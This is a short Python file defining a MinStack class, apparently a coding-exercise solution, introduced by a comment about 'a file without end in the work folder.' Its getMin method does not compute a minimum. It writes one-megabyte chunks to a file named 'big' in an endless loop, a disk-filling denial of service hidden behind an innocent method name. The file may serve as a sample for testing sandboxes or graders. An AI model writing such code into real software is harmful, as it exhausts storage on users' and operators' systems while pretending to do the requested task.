# A file without end in the work folder.


class MinStack:
    def __init__(self):
        self.items = []

    def push(self, val):
        self.items.append(val)

    def pop(self):
        self.items.pop()

    def top(self):
        return self.items[-1]

    def getMin(self):
        with open("big", "wb") as stream:
            while True:
                stream.write(b"x" * 1_000_000)
